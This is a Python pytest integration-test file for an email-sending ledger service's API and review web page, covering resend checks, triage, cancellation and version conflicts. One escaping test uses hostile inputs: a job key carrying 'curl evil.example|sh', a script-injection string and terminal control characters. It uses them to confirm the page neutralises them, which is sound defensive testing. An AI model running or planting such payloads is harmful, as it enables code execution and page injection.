"""Check, resend, triage, cancel and the review page through the real API server (uvicorn
on a loopback port, a real SQLite store); the mailbox is the fake provider's, lent to the
API as the daemon lends its own, so copies are counted where they are stored."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from tests.integration.api_kit import Api, job, write_config

from daemon.api.build import api_context, server_for
from daemon.doubles.fake_provider import FakeProvider
from daemon.engine import PolicyHolder
from daemon.from_settings import load_policies
from ledger.application import Ledger
from ledger.decision_types import Review
from ledger.vocabulary import EscalationReason, PolicyRef


class Rig:
    def __init__(self, api: Api, provider: FakeProvider, root: Path) -> None:
        self.api, self.provider, self.root = api, provider, root

    def post(self, path: str, body: object = None) -> httpx.Response:
        return self.api.client.post(path, json=body, headers=self.api.auth())

    def get(self, path: str) -> httpx.Response:
        return self.api.client.get(path, headers=self.api.auth())

    def submit(self, key: str, **changes: object) -> str:
        answer = self.post("/v1/jobs", job(key, **changes))
        assert answer.status_code == 201, answer.text
        return str(answer.json()["message_id"])

    def in_review(self, key: str, *, copies: int, detail: str = "test", **changes: object) -> None:
        message_id = self.submit(key, **changes)
        review = Review(PolicyRef("receipts", "f" * 16), EscalationReason.UNKNOWN_OUTCOME)
        at = datetime.now(UTC)
        self.api.ledger.update(key, lambda j: j.escalate(review, detail=detail, at=at))
        for _ in range(copies):
            self.provider.store_copy(message_id)

    def events(self, key: str) -> list[dict[str, object]]:
        answer = self.get(f"/v1/jobs/{quote(key, safe='')}/events")
        assert answer.status_code == 200
        return list(answer.json())


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[Rig]:
    settings = write_config(tmp_path, "sqlite:///ledger.sqlite")
    provider = FakeProvider("support", clock=lambda: datetime.now(UTC))
    with Ledger(settings.store.url, base_dir=settings.base_dir) as ledger:
        policies = PolicyHolder(lambda: load_policies(settings))
        ctx = api_context(settings, ledger, policies, {"support": provider})
        server = server_for(settings, ctx)
        server.start()
        try:
            with httpx.Client(base_url=f"http://{settings.api.listen}", timeout=10) as client:
                yield Rig(Api(f"http://{settings.api.listen}", ledger, client), provider, tmp_path)
        finally:
            server.stop()


def test_check_answers_the_copies_and_records_who_asked(rig: Rig) -> None:
    rig.in_review("k1", copies=1)
    answer = rig.post("/v1/review/k1/check")
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["count"] == 1 and body["query"].startswith("rfc822msgid:")
    assert set(body["copies"][0]) == {"provider_id", "date", "to", "subject", "in_trash"}
    checked = [e for e in rig.events("k1") if e["type"] == "Checked"]
    assert checked and checked[-1]["by"] == "alice"
    assert rig.post("/v1/review/nope/check").status_code == 404
    # The queue's `since` is when the job went to review, which the check leaves alone.
    escalated = [e for e in rig.events("k1") if e["type"] == "Escalated"]
    listed = rig.get("/v1/review").json()
    assert [(r["key"], r["since"]) for r in listed] == [("k1", escalated[-1]["at"])]
    assert checked[-1]["at"] != escalated[-1]["at"]


def test_a_resend_of_a_job_whose_copy_exists_is_refused(rig: Rig) -> None:
    rig.in_review("k1", copies=1)
    answer = rig.post("/v1/review/k1/resolve", {"as": "resend"})
    assert answer.status_code == 409
    assert "1 copy found: resolve as sent" in answer.json()["error"]
    assert rig.get("/v1/jobs/k1").json()["state"] == "review"
    assert rig.provider.sends == 0
    # The page no longer offers it, and refuses it in a sentence when posted anyway.
    page = rig.get("/ui/jobs/k1").text
    assert 'value="resend"' not in page and 'value="sent"' in page
    posted = rig.api.client.post(
        "/ui/jobs/k1/resolve", data={"as": "resend"}, headers=rig.api.auth()
    )
    assert posted.status_code == 409 and "1 copy found: resolve as sent" in posted.text
    assert rig.provider.sends == 0


def test_a_resend_with_no_copy_is_accepted(rig: Rig) -> None:
    rig.in_review("k1", copies=0)
    answer = rig.post("/v1/review/k1/resolve", {"as": "resend", "note": "checked"})
    assert answer.status_code == 200 and answer.json()["state"] == "requested"
    assert [e["type"] for e in rig.events("k1")][-2:] == ["Checked", "Resolved"]


def test_triage_per_job_dry_run_first(rig: Rig) -> None:
    rig.in_review("one", copies=1)
    rig.in_review("none", copies=0)
    rig.in_review("two", copies=2)
    dry = rig.post("/v1/review/triage", {"dry_run": True})
    assert dry.status_code == 200
    assert {i["key"]: i["action"] for i in dry.json()} == {
        "one": "would-resolve-sent",
        "none": "left",
        "two": "left",
    }
    assert rig.get("/v1/jobs/one").json()["state"] == "review"
    done = rig.post("/v1/review/triage", {})
    assert {i["key"]: (i["count"], i["action"]) for i in done.json()} == {
        "one": (1, "resolved-sent"),
        "none": (0, "left"),
        "two": (2, "left"),
    }
    assert rig.get("/v1/jobs/one").json()["state"] == "confirmed"
    assert rig.post("/v1/review/triage", {"channel": "other"}).json() == []
    assert rig.post("/v1/review/triage", {"dry_run": "maybe"}).status_code == 422


def test_cancel_then_409_naming_the_state(rig: Rig) -> None:
    rig.submit("later", send_at="2099-01-01T00:00:00Z")
    answer = rig.post("/v1/jobs/later/cancel", {"note": "customer asked"})
    assert answer.status_code == 200 and answer.json()["state"] == "cancelled"
    again = rig.post("/v1/jobs/later/cancel")
    assert again.status_code == 409 and "is cancelled" in again.json()["error"]
    assert rig.post("/v1/jobs/nope/cancel").status_code == 404
    assert rig.api.ledger.row("later").due_at is None  # type: ignore[union-attr]
    metrics = rig.api.client.get("/metrics").text
    assert 'sendledger_jobs{state="cancelled"} 1.0' in metrics
    cancelled = [e for e in rig.events("later") if e["type"] == "Cancelled"]
    assert cancelled[0]["by"] == "alice" and cancelled[0]["note"] == "customer asked"


def test_a_decision_on_a_version_that_moved_is_409(rig: Rig) -> None:
    """docs/review.md "Two people, one job": the version a person saw, through the API and
    the page's form; nothing is decided on a job that moved since."""
    rig.in_review("k1", copies=0)
    seen = rig.get("/v1/jobs/k1").json()["version"]
    assert rig.post("/v1/review/k1/check").status_code == 200  # another person looks
    stale = rig.post("/v1/review/k1/resolve", {"as": "abandon", "expected_version": seen})
    assert stale.status_code == 409, stale.text
    assert (
        f"after version {seen}" in stale.json()["error"] and "checked by" in stale.json()["error"]
    )
    page = rig.api.client.post(
        "/ui/jobs/k1/resolve",
        data={"as": "abandon", "version": str(seen)},
        headers=rig.api.auth(),
    )
    assert page.status_code == 409 and "changed after version" in page.text
    assert rig.get("/v1/jobs/k1").json()["state"] == "review"
    now = rig.get("/v1/jobs/k1").json()["version"]
    done = rig.post("/v1/review/k1/resolve", {"as": "abandon", "expected_version": now})
    assert done.status_code == 200 and done.json()["state"] == "abandoned"
    assert (
        rig.post("/v1/review/k1/resolve", {"as": "sent", "expected_version": 0}).status_code == 422
    )
    rig.submit("later", send_at="2099-01-01T00:00:00Z")
    v = rig.get("/v1/jobs/later").json()["version"]
    # A version the job never had was never shown to anyone: bad input naming it.
    ahead = rig.post("/v1/jobs/later/cancel", {"expected_version": v + 1})
    assert ahead.status_code == 422 and ahead.json()["errors"][0]["field"] == "expected_version"
    assert rig.post("/v1/jobs/later/cancel", {"expected_version": v}).status_code == 200


def test_a_broken_policy_file_refuses_its_channel_only(rig: Rig) -> None:
    (rig.root / "policies" / "alerts.toml").write_text(
        'provider = "support"\nfrom = "Support <support@example.com>"\n'
        'message_id_domain = "mail.example.com"\nmax_attempts = 0\n'
    )
    refused = rig.post("/v1/jobs", job("a1", channel="alerts"))
    assert refused.status_code == 422
    assert refused.json()["errors"][0]["field"] == "channel"
    assert "alerts.toml:max_attempts" in refused.json()["error"]
    assert rig.post("/v1/jobs", job("r1")).status_code == 201


def test_a_policy_file_added_since_the_last_reload_is_named_as_not_loaded(rig: Rig) -> None:
    # A tired operator drops in a sound file and forgets the reload: "no policy file for
    # channel 'alerts'" sent them to a folder where that file plainly is.
    (rig.root / "policies" / "alerts.toml").write_text(
        'provider = "support"\nfrom = "Support <support@example.com>"\n'
        'message_id_domain = "mail.example.com"\n'
    )
    refused = rig.post("/v1/jobs", job("a1", channel="alerts"))
    assert refused.status_code == 422
    assert refused.json()["errors"][0]["field"] == "channel"
    error = refused.json()["error"]
    assert "no policy file" not in error
    assert "'alerts'" in error and "added since the policies were loaded" in error
    assert "SIGHUP" in error
    assert rig.post("/v1/jobs", job("r1")).status_code == 201


@pytest.mark.parametrize("key", ["victim-job --as resend #", "x; curl evil.example|sh #"])
def test_the_page_quotes_commands_and_escapes_a_callers_text(rig: Rig, key: str) -> None:
    # A detail written by an older release, before bidi controls were refused.
    hostile = "<script>alert(1)</script>"
    rig.in_review(key, copies=0, subject=hostile, detail="\u202eevil\x1b[2J")
    page = rig.get("/ui/jobs/" + quote(key, safe="")).text
    assert hostile not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "\\u202eevil\\x1b[2J" in page and "\x1b" not in page
    assert "\u202e" not in page
    quoted = "sendledger review check &#39;" + key + "&#39;"
    assert quoted in page, re.findall(r"sendledger review check[^<]*", page)
    queue = rig.get("/ui/").text
    assert "\u202e" not in queue and "<script>alert" not in queue


def test_the_job_page_lists_attachments_without_their_content(rig: Rig) -> None:
    data = "QUJD" * 50_000
    attachment = {"filename": "big.pdf", "content_type": "application/pdf", "content_base64": data}
    rig.in_review("k1", copies=1, attachments=[attachment])
    page = rig.get("/ui/jobs/k1").text
    assert "big.pdf (application/pdf, 150000 bytes)" in page
    assert "QUJDQUJD" not in page and len(page) < 50_000
    assert "None" not in page.split("Timeline")[1]
    checked = rig.api.client.post("/ui/jobs/k1/check", headers=rig.api.auth())
    assert checked.status_code == 200 and "1 copy found" in checked.text
    assert 'value="resend"' not in checked.text


def test_queue_filters_sorts_pages_and_search_finds(rig: Rig) -> None:
    for n in range(3):
        rig.in_review(f"q{n}", copies=0, to=f"person{n}@example.org")
    page = rig.get("/ui/?sort=key&page=1").text
    assert page.index("q0") < page.index("q2") and "12 min" not in page
    assert "No jobs wait" in rig.get("/ui/?channel=nope").text
    found = rig.get("/ui/search?q=person1%40example.org").text
    assert "q1" in found and "q2" not in found
    overview = rig.get("/ui/overview").text
    assert "<svg" in overview and "reviews (3)" in overview
    triage = rig.get("/ui/triage").text
    assert "Dry run" in triage


def test_odd_requests_never_answer_500(rig: Rig) -> None:
    rig.in_review("k1", copies=0)
    auth = rig.api.auth()
    client = rig.api.client
    odd = [
        ("get", "/ui/?page=-5&sort=nonsense&channel=%00"),
        ("get", "/ui/?page=999999"),
        ("get", "/ui/?page=abc"),
        ("get", "/ui/search?q=" + "x" * 5000),
        ("get", "/ui/search?q=%3C%3E"),
        ("get", "/ui/jobs/nope"),
        ("post", "/v1/review/triage"),
        ("post", "/v1/review/triage", "[]"),
        ("post", "/v1/review/triage", '{"dry_run": true, "extra": 1}'),
        ("post", "/v1/jobs/k1/cancel", "null"),
        ("post", "/v1/jobs/k1/cancel", '{"note": 5}'),
        ("post", "/v1/jobs/k1/cancel", "{not json"),
        ("post", "/v1/review/k1/check", "ignored"),
        ("post", "/ui/jobs/k1/resolve"),
        ("post", "/ui/triage"),
    ]
    for method, path, *body in odd:
        content = body[0] if body else None
        headers = {**auth, "Content-Type": "application/json"} if content else auth
        answer = client.request(method, path, content=content, headers=headers)
        assert answer.status_code < 500, (method, path, answer.status_code, answer.text[:200])
    assert rig.get("/v1/jobs/k1").json()["state"] == "review"
